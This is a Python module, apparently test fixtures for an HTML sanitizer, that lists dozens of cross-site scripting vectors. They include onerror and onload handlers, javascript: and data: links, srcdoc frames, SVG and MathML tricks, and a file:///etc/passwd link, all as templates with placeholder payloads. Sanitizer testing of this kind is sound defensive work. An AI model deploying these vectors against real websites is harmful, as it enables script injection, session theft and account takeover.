"""Markup that runs a script where nothing stops it. For `{run}` and the rest see `hostile_vectors`."""

HANDLERS = {
    "script element": "<script>{run}</script>",
    "script from elsewhere": "<script src='{c}/x.js'></script>",
    "script in a data address": '<script src="data:text/javascript,{run}"></script>',
    "script of an odd type": '<script type="text/jscript" language=javascript>{run}</script>',
    "module script": "<script type=module>{run}</script>",
    "import map": (
        '<script type=importmap>{"imports":{"x":"data:text/javascript,{mark}"}}</script>'
        "<script type=module>import 'x'</script>"
    ),
    "script for those without modules": "<script nomodule async defer>{run}</script>",
    "image that fails": '<img src="x:" onerror="{run}">',
    "image that fails without spaces": '<img/src="x:"/onerror="{run}"/>',
    "image that fails in capitals": '<IMG SRC="x:" ONERROR="{run}">',
    "image by its old name": '<image src="x:" onerror="{run}">',
    "image that loads": (
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload="{run}">'
    ),
    "image set that fails": '<img srcset="x: 1x" onerror="{run}">',
    "picture that fails": '<picture><source srcset="x:"><img src="x:" onerror="{run}"></picture>',
    "image with quotes in its name": '<img """><img src="x:" onerror="{run}">">',
    "image with a control character": '<img src="x:"\x0conerror="{run}">',
    "style sheet that loads": '<style onload="{run}">i{color:red}</style>',
    "linked sheet that loads": '<link rel=stylesheet href="data:text/css,i{}" onload="{run}" onerror="{run}">',
    "frame that loads": '<iframe onload="{run}"></iframe>',
    "object that loads": '<object data="data:text/plain,x" onload="{run}" onerror="{run}"></object>',
    "embed that loads": '<embed src="data:text/plain,x" onload="{run}">',
    "input image that fails": '<input type=image src="x:" onerror="{run}">',
    "isindex": '<isindex type=image src="x:" onerror="{run}">',
    "video that fails": '<video><source onerror="{run}"></video>',
    "video that starts": '<video src="data:video/mp4,x" onloadstart="{run}" onerror="{run}"></video>',
    "audio that fails": '<audio src="x:" onerror="{run}"></audio>',
    "track that fails": '<video><track default src="x:" onerror="{run}"></video>',
    "details that toggle": '<details open ontoggle="{run}"><summary>x</summary></details>',
    "focus of itself": '<input autofocus onfocus="{run}">',
    "focus of anything": '<b tabindex=1 autofocus contenteditable onfocus="{run}">x</b>',
    "animation that starts": (
        '<style>@keyframes x{to{top:0}}</style><b style="animation:x 1s" onanimationstart="{run}">x</b>'
    ),
    "animation of an unknown element": '<xss style="animation:x 1s" onanimationend="{run}">x</xss>',
    "transition of itself": (
        "<style>@starting-style{.fade{opacity:0}}</style>"
        '<b class=fade style="transition:opacity 1ms;opacity:1" ontransitionend="{run}">x</b>'
    ),
    "content that becomes visible": (
        '<b style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="{run}">x</b>'
    ),
    "scroll of itself": '<div style="height:5px;overflow:auto" onscroll="{run}"><p id=far>x</p></div>',
    "marquee": '<marquee onstart="{run}">x</marquee>',
    "custom element": '<x-y onanimationstart="{run}" style="animation:x 1s">x</x-y>',
    "element that is another one": '<img is="x-y" src="x:" onerror="{run}">',
    "shadow of an element": '<div><template shadowrootmode=open><img src="x:" onerror="{run}"></template></div>',
    "template": '<template><img src="x:" onerror="{run}"></template>',
    "slot": '<slot onslotchange="{run}"><b>x</b></slot>',
    "dialog that is open": '<dialog open><img src="x:" onerror="{run}"></dialog>',
    "frame with a script address": '<iframe src="javascript:void({mark})"></iframe>',
    "frame with a spelt-out script address": ('<iframe src="&#106;ava&Tab;script&colon;void({mark})"></iframe>'),
    "frame with a document": '<iframe srcdoc="<script>{run}</script>"></iframe>',
    "frame with a document of entities": (
        '<iframe srcdoc="&lt;img src=&quot;x:&quot; onerror=&quot;{run}&quot;&gt;"></iframe>'
    ),
    "frame with a data document": '<iframe src="data:text/html,<script>{run}</script>"></iframe>',
    "object with a data document": '<object data="data:text/html,<script>{run}</script>"></object>',
    "object with a script address": '<object data="javascript:void({mark})"></object>',
    "embed with a data document": '<embed type=text/html src="data:text/html,<script>{run}</script>">',
    "applet": '<applet code="javascript:void({mark})" archive="{c}/x.jar"></applet>',
    "behaviours of old": (
        "<b style=\"behavior:url('{c}/x.htc');-moz-binding:url('{c}/x.xml#x');width:expression({mark})\">x</b>"
        '<xml onreadystatechange="{run}"><x/></xml>'
    ),
    "AMP": (
        '<amp-img src="{c}/a.png" on="load:AMP.navigateTo(url={c})" onerror="{run}"></amp-img>'
        "<script async custom-element=amp-form src='{c}/v0.js'></script>"
    ),
}
"""Well-formed: several of them fit into one message."""

SVG = {
    "svg that loads": '<svg onload="{run}"></svg>',
    "svg that loads without spaces": '<svg/onload="{run}"></svg>',
    "svg script": "<svg><script>{run}</script></svg>",
    "svg script with an address": '<svg><script href="data:text/javascript,{run}"></script></svg>',
    "svg script with an xlink": '<svg><script xlink:href="data:text/javascript,{run}"></script></svg>',
    "svg script of entities": "<svg><script>&#40;top.ran=top.ran||[]).push&#40;{n})</script></svg>",
    "svg image that fails": '<svg><image href="x:" onerror="{run}"></image></svg>',
    "svg animation that begins": '<svg><animate onbegin="{run}" attributeName=x dur=1s></animate></svg>',
    "svg value that is set": '<svg><set onbegin="{run}" attributeName=x to=1></set></svg>',
    "svg transformation": '<svg><animateTransform onbegin="{run}" attributeName=transform dur=1s /></svg>',
    "svg event of a time": '<svg><animate onend="{run}" attributeName=x dur=1ms></animate></svg>',
    "svg handler set by animation": '<svg><set attributeName=onload to="{run}"></set></svg>',
    "svg foreign object": '<svg><foreignObject><img src="x:" onerror="{run}"></foreignObject></svg>',
    "svg foreign frame": (
        '<svg><foreignObject><iframe srcdoc="<script>{run}</script>"></iframe></foreignObject></svg>'
    ),
    "svg use of a data address": (
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='x:' onerror='{mark}'/></svg>#x\"></use></svg>"
    ),
    "svg style that loads": '<svg><style onload="{run}"></style></svg>',
    "mathml with markup inside": (
        '<math><annotation-xml encoding="text/html"><img src="x:" onerror="{run}"></annotation-xml></math>'
    ),
    "mathml text": '<math><mtext><img src="x:" onerror="{run}"></mtext></math>',
}
"""Well-formed as well, and of another namespace."""

PRESSED = {
    "script link": '<a class=press href="javascript:void({mark})">x</a>',
    "script link to a new window": '<a class=press target=_blank href="javascript:void({mark})">x</a>',
    "script link in capitals": '<a class=press href="JaVaScRiPt:void({mark})">x</a>',
    "script link with a tab": '<a class=press href="java\tscript:void({mark})">x</a>',
    "script link with entities": '<a class=press href="&#x6A;&#97;va&NewLine;script&colon;void({mark})">x</a>',
    "script link after a control character": '<a class=press href="\x01 javascript:void({mark})">x</a>',
    "script link with a comment": '<a class=press href="javascript://x.example/%0avoid({mark})">x</a>',
    "link that is clicked": '<a class=press onclick="{run}">x</a>',
    "anything that is clicked": '<b class=press onclick="{run}" onpointerdown="{run}" onmouseover="{run}">x</b>',
    "label that is clicked": '<label class=press>x<input type=checkbox onclick="{run}"></label>',
    "summary that is clicked": '<details ontoggle="{run}"><summary class=press>x</summary>y</details>',
    "form for a dialog": (
        '<dialog open><form method=dialog><button class=press onclick="{run}">x</button></form></dialog>'
    ),
    "popover": '<button class=press popovertarget=pop>x</button><b id=pop popover onbeforetoggle="{run}">y</b>',
    "invoker command": (
        '<button class=press commandfor=dia command=show-modal>x</button><dialog id=dia ontoggle="{run}">y</dialog>'
    ),
    "svg link": (
        '<svg width=20 height=20><a class=press href="javascript:void({mark})"><text y=15>x</text></a></svg>'
    ),
    "svg link by xlink": (
        '<svg width=20 height=20><a class=press xlink:href="javascript:void({mark})"><text y=15>x</text></a></svg>'
    ),
    "svg animation of a link": (
        '<svg width=20 height=20><a class=press><animate attributeName=href values="javascript:void({mark})" />'
        "<text y=15>x</text></a></svg>"
    ),
    "svg value set of a link": (
        '<svg width=20 height=20><a class=press><set attributeName=href to="javascript:void({mark})" />'
        "<text y=15>x</text></a></svg>"
    ),
    "mathml link": '<math class=press href="javascript:void({mark})"><mi>x</mi></math>',
    "mathml action": (
        '<math><maction class=press actiontype="statusline#x" xlink:href="javascript:void({mark})">'
        "<mi>x</mi></maction></math>"
    ),
    "image map": (
        "<img usemap=#map width=20 height=20 class=press"
        ' src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==">'
        '<map name=map><area shape=default href="javascript:void({mark})" ping="{c}/ping"></map>'
    ),
    "blank link with a base": (
        '<a class=press target="javascript:void({mark})" href="javascript:void({mark})">x</a>'
    ),
}
"""Well-formed; each waits for a hand, and `.press` is where it presses."""

LEAVING = {
    "link that reports": '<a class=press href="#" ping="{c}/ping" attributionsrc="{c}/source">x</a>',
    "livescript link": '<a class=press href="livescript:void({mark})">x</a>',
    "vbscript link": '<a class=press href="vbscript:msgbox(1)">x</a>',
    "archive of a script link": '<a class=press href="jar:javascript:void({mark})!/">x</a>',
    "source of a script link": '<a class=press href="view-source:javascript:void({mark})">x</a>',
    "script link in another one": '<a class=press href="feed:javascript:void({mark})">x</a>',
    "script link after a no-break space": '<a class=press href="&nbsp;javascript:void({mark})">x</a>',
    "data link": '<a class=press href="data:text/html,<script>{run}</script>">x</a>',
    "data link in base 64": (
        "<a class=press href='data:text/html;base64,PHNjcmlwdD50b3AucmFuPVswXTwvc2NyaXB0Pg=='>x</a>"
    ),
    "data link of svg": (
        "<a class=press href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{mark}'/>\">x</a>"
    ),
    "blob link": '<a class=press href="blob:{c}/00000000-0000-0000-0000-000000000000">x</a>',
    "filesystem link": '<a class=press href="filesystem:{c}/temporary/x.html">x</a>',
    "link to a file": '<a class=press href="file:///etc/passwd">x</a>',
    "link to the browser": '<a class=press href="chrome://version">x</a>',
    "button with an address": (
        '<form action="javascript:void({mark})"><button class=press formaction="{c}/a">x</button></form>'
    ),
    "submit input": (
        '<form action="{c}/b"><input class=press type=submit formaction="javascript:void({mark})"></form>'
    ),
    "image input": '<form method=post action="{c}/c"><input class=press type=image alt=x></form>',
    "button of another form": '<form id=other action="{c}/d"></form><button class=press form=other>x</button>',
    "download link": '<a class=press download=x.html href="data:text/html,<script>{run}</script>">x</a>',
}
"""These wait for a hand as well, and what is pressed takes the frame away: each is a message of its own."""
